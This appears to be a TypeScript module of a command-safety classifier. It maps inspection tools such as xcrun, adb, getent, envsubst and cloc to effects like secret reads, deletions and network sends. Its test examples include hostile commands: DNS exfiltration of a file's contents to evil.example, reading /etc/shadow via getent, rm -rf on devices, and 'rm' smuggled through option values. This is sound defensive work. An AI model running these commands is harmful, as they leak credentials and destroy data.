import { act, actOnFile, opaque } from '../effects/act.ts';
import type { Call } from '../state/call.ts';
import { has, valueOf, valuesOf } from '../state/call.ts';
import { runShellText, runWords } from '../calls/innerCommand.ts';
import { isSecretVariable } from '../effects/secrets.ts';
import { printsEnvironment } from './machine.ts';
import { tellsName } from './toldNames.ts';
import type { Tool } from './tool.ts';

/** Tools that look into one kind of file or at one part of the machine, and say what they see. */

/** `xcrun TOOL …` runs a tool of the SDK; `xcrun simctl` drives simulators. */
function xcrun(call: Call): void {
  const [tool, ...rest] = call.parsed.operands;
  if (tool === undefined || has(call, 'f', 'find', 'show-sdk-path', 'show-sdk-version')) return;
  const [verb, device, does, file] = rest;
  if (!/^(?:simctl|devicectl|xctrace)$/.test(tool.value)) runWords(call, [tool, ...rest]);
  else if (rest.length < 3 && /^(?:--help|-h)$/.test(rest.at(-1)?.value ?? '')) return;
  else if (tool.value === 'simctl' && verb?.value === 'spawn') {
    // What is spawned is a program of this machine in the simulator's folders.
    opaque(call, device?.value ?? tool.value, call.range, 'problem.runs-program');
  } else if (
    tool.value === 'simctl' &&
    verb?.value === 'io' &&
    does?.value === 'screenshot' &&
    file?.value.startsWith('-') === false
  ) {
    actOnFile(call, 'output', file);
  } else if (
    !/^(?:list|help|getenv|get_app_container|appinfo|listapps|device|version)$/.test(rest[0]?.value ?? 'help')
  ) {
    const loses = /^(?:erase|delete|uninstall|keychain)$/.test(rest[0]?.value ?? '');
    act(call, loses ? 'container.delete' : 'container.change', 'container', rest[1]?.value ?? tool.value, call.range);
  }
}

/** Android's bridge: a device is another machine. */
function adb(call: Call): void {
  const [verb, ...rest] = call.parsed.operands;
  if (
    verb === undefined ||
    /^(?:devices|logcat|version|help|get-.*|start-server|wait-for-.*|bugreport)$/.test(verb.value)
  ) {
    if (call.args.some((arg) => arg.value === '-c' && verb?.value === 'logcat'))
      act(call, 'container.change', 'container', 'device log', call.range);
    return;
  }
  const reads = verb.value === 'shell' && /^(?:getprop|ls|cat|ps|df|pm|dumpsys|wm)$/.test(rest[0]?.value ?? '');
  if (reads && !rest.some((word) => /[;&|>]|^(?:uninstall|clear|disable.*|size|density)$/.test(word.value))) return;
  act(call, 'container.change', 'container', `device ${verb.value}`, call.range, { traits: ['remote'] });
}

/** Words by which a tool that shows a part of the machine changes it. */
const CHANGES_MACHINE: Readonly<Record<string, RegExp>> = {
  rfkill: /^(?:un)?block$/,
  ethtool: /^-[sKACGNLXUEWfrt]$|^--(?:set-.*|change|pause|offload|features|reset|flash|config-.*|negotiate|test)$/,
  iw: /^(?:set|add|del|connect|disconnect|join|leave|start|stop|switch|ibss|mesh|reg)$/,
  iwconfig: /^(?:essid|mode|freq|channel|rate|rts|frag|txpower|enc|key|power|ap|nick|commit)$/,
  'nvidia-smi':
    /^-(?:pm|e|p|c|r|pl|gom|ac|rac|am|caa|mig|lgc|rgc|lmc|rmc|cc|acp)$|^--(?:persistence-mode|ecc-config|reset-.*|compute-mode|gpu-reset|power-limit|.*-clocks|multi-instance-gpu)/,
  'rocm-smi': /^--(?:set.*|reset.*|gpureset)$/,
};

export const inspection: readonly Tool[] = [
  {
    names: 'xcpretty xcbeautify pino-pretty bunyan tap-spec tap-dot tap-min tap-difflet faucet ccze grcat',
    free: true,
    operands: 'read...',
    examples: { passed: ['xcpretty --version'] },
  },
  {
    // Its own commands write files and start programs.
    names: 'lnav',
    options: 'n q r R H V version help t I= c=opaque f=opaque e=opaque i!opaque u!opaque S=',
    operands: 'read...',
    examples: { held: { "lnav -n -c ':write-to x' a.log": 'exec.opaque file.read' }, passed: ['lnav -n a.log'] },
  },
  {
    names: 'xmllint',
    free: true,
    options:
      'xpath= noout format c14n schema=read relaxng=read dtdvalid= valid o,output=write stream html recover nonet pretty= encode= shell=opaque pattern= xinclude',
    operands: 'read...',
    examples: {
      held: { 'xmllint --format a.xml --output b.xml': 'file.read file.write' },
      passed: ["xmllint --xpath '//version/text()' pom.xml"],
    },
  },
  {
    // What it is given names the variables, or the one word that it may have.
    names: 'envsubst',
    options: 'v,variables V h',
    also: (call) => {
      const text = has(call, 'v') ? '' : (call.parsed.operands[0]?.value ?? call.stdin?.text);
      const named = [...(text ?? '').matchAll(/\$\{?(\w+)/g)].map(([, name = '']) => name);
      if (text === undefined || named.some(isSecretVariable)) printsEnvironment(call);
    },
    examples: { held: { 'envsubst < a.yml': 'file.read secret.read' }, passed: ["envsubst '$HOME' < a.yml"] },
  },
  {
    names: 'ugrep ug',
    free: true,
    also: (call) => {
      for (const arg of call.args)
        if (/^--(?:filter|pager|view)(?:=|$)|^-Q/.test(arg.value))
          opaque(call, arg.value, arg.range, 'problem.runs-program');
      for (const arg of call.parsed.operands.slice(1)) actOnFile(call, 'list', arg);
    },
    examples: { held: { "ugrep --filter='pdf:rm x' a": 'exec.opaque' }, passed: ['ugrep -rn foo src'] },
  },
  {
    names:
      'hexyl mediainfo pdfimages soxi sips zipinfo difft delta glow mdcat viu chafa icdiff diffstat rgrep msgfmt pngcheck jpeginfo webpinfo readtags wasm-objdump plutil otool lipo codesign dwarfdump addr2line c++filt isutf8 enca chardet chardetect uchardet',
    free: true,
    options: 'o,output=write',
    also: (call) => {
      const { operands, unknown } = call.parsed;
      const writes = /^sips$/.test(call.title)
        ? unknown.some((arg) =>
            /^-(?:s|z|Z|r|c|f|p|i|m|e|d|-set\w*|-resample\w*|-rotate|-crop\w*|-out|-delete\w*|-flip|-pad\w*)$/.test(
              arg.value,
            ),
          )
        : /^(?:codesign|plutil|lipo|pdfimages|msgfmt)$/.test(call.title) &&
          !call.args.some((arg) => /^-(?:-?verify|dv+|d|p|lint|info|archs|list|-c|-check)$/.test(arg.value));
      for (const arg of operands) {
        if (/[./]|^\w+$/.test(arg.value)) actOnFile(call, writes ? 'write' : 'read', arg);
      }
    },
    examples: {
      held: { 'pdfimages a.pdf out': 'file.write' },
      passed: ['zipinfo -1 a.zip', 'pdfimages -list a.pdf'],
    },
  },
  {
    names: 'pdftotext pdfinfo pdffonts',
    single: true,
    options:
      'f= l= r= x= y= W= H= enc= eol= opw= upw= box isodates rawdates dests url meta js struct struct-text layout fixed= raw nodiag nopgbrk bbox bbox-layout tsv htmlmeta cropbox colspacing= listenc loc subst q v h',
    also: (call) => {
      const [file, output] = call.parsed.operands;
      if (file === undefined) return;
      actOnFile(call, 'read', file);
      if (call.title !== 'pdftotext' || output?.value === '-') return;
      // Without a name it writes beside the file, with another ending.
      actOnFile(call, 'output', output ?? { ...file, value: file.value.replace(/(?:\.pdf)?$/i, '.txt') });
    },
    examples: {
      held: { 'pdftotext a.pdf a.txt': 'file.read file.write', 'pdftotext -l 2 a.pdf': 'file.read file.write' },
      passed: ['pdfinfo a.pdf', 'pdftotext -f 1 -l 2 -layout a.pdf -'],
    },
  },
  {
    names: 'iconv',
    options: 'f,from-code= t,to-code= l,list c o,output=output s,silent verbose',
    operands: 'read...',
    examples: {
      held: { 'iconv -t utf-8 a.txt -o b.txt': 'file.read file.write' },
      passed: ['iconv -f latin1 -t utf-8 a.txt'],
    },
  },
  {
    names: 'ffprobe',
    single: true,
    options:
      'v,loglevel= i= of,print_format,output_format= show_entries= select_streams= f= show_format show_streams show_frames show_packets show_chapters show_error hide_banner pretty count_frames count_packets read_intervals= sexagesimal unit prefix o=output',
    operands: 'read...',
    also: (call) => {
      for (const file of valuesOf(call, 'i')) actOnFile(call, 'read', file);
    },
    examples: {
      held: { 'ffprobe -o out.txt in.mp4': 'file.read file.write' },
      passed: ['ffprobe -v error -show_entries format=duration -of csv=p=0 in.mp4', 'ffprobe -i in.mp4 -show_format'],
    },
  },
  {
    names: 'ctags etags cscope',
    free: true,
    options: 'f,o=write L=read R recurse version help x',
    operands: 'list...',
    also: (call) => {
      if (
        !has(call, 'f', 'x', 'version', 'help') &&
        !/^-(?:V|h|version)$/.test(call.args[0]?.value ?? '') &&
        call.args.length > 0
      )
        actOnFile(call, 'output', { ...call.name, value: 'tags', range: call.range });
    },
    examples: { held: { 'ctags -R src': 'file.read file.write' }, passed: ['ctags --version', 'ctags -x src/a.c'] },
  },
  {
    names:
      'uuidgen getent findmnt blkid nvidia-smi rocm-smi atq mdfind mdls system_profiler fc-list fc-match getfacl getfattr lsattr namei pmap pwdx lslocks lsipc lsmem biosdecode inxi screenfetch bmon nload iftop nethogs ethtool iw iwconfig rfkill acpi upower ioreg tload slabtop dstat ctop btop bashtop gotop colrm units dircolors pathchk mcookie klist',
    free: true,
    operands: 'text...',
    also: (call) => {
      const changes = CHANGES_MACHINE[call.title];
      if (changes !== undefined && call.args.some((arg) => changes.test(arg.value)))
        act(call, 'system.change', 'operation', call.title, call.range);
      if (call.title === 'getent' && /^(?:a?hosts|networks)/.test(call.parsed.operands[0]?.value ?? ''))
        for (const name of call.parsed.operands.slice(1)) tellsName(call, name);
      if (/^getent$/.test(call.title) && /^g?shadow$/.test(call.parsed.operands[0]?.value ?? ''))
        act(call, 'secret.read', 'secret', '/etc/shadow', call.range);
    },
    examples: {
      held: {
        'rfkill block wifi': 'system.change',
        'getent shadow root': 'secret.read',
        'getent hosts $(cat a).evil.example': 'file.read network.send',
        'nvidia-smi --gpu-reset': 'system.change',
        'iw dev wlan0 disconnect': 'system.change',
      },
      passed: ['uuidgen', 'getent hosts localhost', 'nvidia-smi'],
    },
  },
  {
    // Settings that are given are a script, or name commands.
    names: 'neofetch fastfetch',
    free: true,
    options: 'config=opaque c=opaque load-config=opaque gen-config!opaque gen-config-force!opaque',
    operands: 'text...',
    examples: { held: { 'neofetch --config x': 'exec.opaque' }, passed: ['neofetch'] },
  },
  {
    // `-w` and `-s` open a server that shows this machine.
    names: 'glances',
    free: true,
    options: 'w,webserver s,server C,config=opaque export= export-csv-file=write enable-plugin= stdout= t= q,quiet',
    also: (call) => {
      if (has(call, 'w', 's')) act(call, 'network.send', 'service', call.title, call.range, { traits: ['unattended'] });
    },
    examples: { held: { 'glances -w': 'network.send' }, passed: ['glances --stdout cpu'] },
  },
  {
    names: 'xcrun',
    stop: true,
    options: 'f,find sdk= show-sdk-path show-sdk-version toolchain= r,run l,log n,no-cache',
    also: xcrun,
    examples: {
      held: {
        'xcrun simctl erase all': 'container.delete',
        'xcrun simctl boot a': 'container.change',
        'xcrun simctl io booted screenshot a.png': 'file.write',
        'xcrun simctl io booted recordVideo a.mov': 'container.change',
        'xcrun simctl spawn booted rm -rf x': 'exec.opaque file.delete',
        'xcrun simctl launch booted com.x --help': 'container.change',
      },
      passed: ['xcrun simctl list devices', 'xcrun simctl io --help'],
    },
  },
  {
    names: 'adb',
    stop: true,
    free: true,
    options: 's= d e t= H= P= L=',
    also: adb,
    examples: {
      held: { 'adb uninstall com.x': 'container.change', 'adb shell rm -rf /sdcard': 'container.change' },
      passed: ['adb devices', 'adb logcat -d'],
    },
  },
  {
    names: 'cloc tokei scc loc shellcheck hadolint actionlint yamllint typos gitleaks',
    free: true,
    options:
      'f,format= S,severity= e,exclude= s,shell= x,external-sources a,check-sourced o,output= report-path=write r= out=write report-file=write counted=write found=write ignored=write categorized=write sql=write write-lang-def=write write-lang-def-incl-dup=write extract-with=program vcs= strip-comments=opaque strip-code=opaque w,write-changes!opaque i,interactive!opaque',
    also: (call) => {
      const out = /^(?:scc|loc)$/.test(call.title) ? valueOf(call, 'o') : undefined;
      if (out !== undefined) actOnFile(call, 'output', out);
      const lister = call.title === 'cloc' ? valueOf(call, 'vcs') : undefined;
      if (lister !== undefined && !/^(?:git|svn|auto)$/.test(lister.value)) runShellText(call, lister);
      for (const arg of call.parsed.operands) if (/[./]/.test(arg.value)) actOnFile(call, 'list', arg);
    },
    examples: {
      held: {
        "cloc --vcs='rm -rf x'": 'file.delete',
        'typos -w src': 'exec.opaque',
        'cloc --counted=a.txt src': 'file.write',
      },
      passed: ['cloc src', 'shellcheck scripts/*.sh'],
    },
  },
  {
    names: 'sar',
    options: 'o=output f=read A B b d F H h m= n= P= q r S u V v W w y s= e= i= z',
    operands: 'text...',
    examples: { held: { 'sar -o a 1 1': 'file.write' }, passed: ['sar -u 1 3'] },
  },
];
